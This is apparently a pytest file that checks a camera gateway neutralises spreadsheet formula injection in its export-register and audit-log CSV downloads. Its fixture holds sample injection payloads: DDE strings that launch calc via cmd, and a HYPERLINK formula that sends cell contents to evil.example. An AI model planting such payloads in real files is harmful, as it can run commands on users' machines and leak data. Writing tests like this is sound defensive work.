"""CSV exports that a spreadsheet opens safely: text that would run as a formula (typed
into an export request by anyone with ``export.request``) is neutralised in the release
register's CSV and in the audit log's CSV, over the real API."""

from __future__ import annotations

import csv
import io
import time

import pytest

from gateway.csvcells import neutralise
from tests.fixtures_app import camera_toml
from tests.test_exports import REQUEST

CAM = camera_toml("cam", "demo", width=320, height=240, fps=5)
EVIL = {
    "case_number": "+31-2026",
    "authority": "@SUM(1+1)*cmd|' /C calc'!A0",
    "legal_basis": "-2+3+cmd|' /C calc'!A0",
    "purpose": '=HYPERLINK("http://evil.example/?"&A1,"open")',
}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_register_and_audit_csv_neutralise_formulas(make_gateway):
    gw = await make_gateway(CAM)
    inv = await gw.sign_in("inv", role="investigator", all_areas=True)
    auditor = await gw.sign_in("aud", role="auditor")
    now = time.time()
    async with inv.post(f"{gw.url}/api/exports", json={**REQUEST, **EVIL, "cameras": ["cam"], "from": now - 600, "to": now - 60}) as resp:
        assert resp.status == 201, await resp.text()
        rid = (await resp.json())["id"]

    async with auditor.get(f"{gw.url}/api/exports/register.csv", params={"request": rid}) as resp:
        assert resp.status == 200 and resp.content_type == "text/csv"
        [filed] = rows(await resp.text())
    assert filed["event"] == "filed" and filed["request"] == str(rid)
    for key, value in EVIL.items():
        assert filed[key] == "'" + value, (key, filed[key])
    assert filed["cameras"] == "cam" and filed["requested_by"] == "inv"  # harmless text stays as it was

    async with auditor.get(f"{gw.url}/api/audit", params={"format": "csv", "action": "export.filed"}) as resp:
        assert resp.status == 200 and resp.content_type == "text/csv"
        [entry] = rows(await resp.text())
    assert entry["purpose"] == "'" + EVIL["purpose"]
    assert entry["user"] == "inv" and entry["id"].isdigit() and float(entry["range_from"]) > 0  # numbers untouched
    assert entry["detail"].startswith("{")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tcmd", "\rcmd"])
def test_every_formula_start_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["a=b", "", "1.5", "'=quoted already", " =space first", 7, -2.5, None])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value
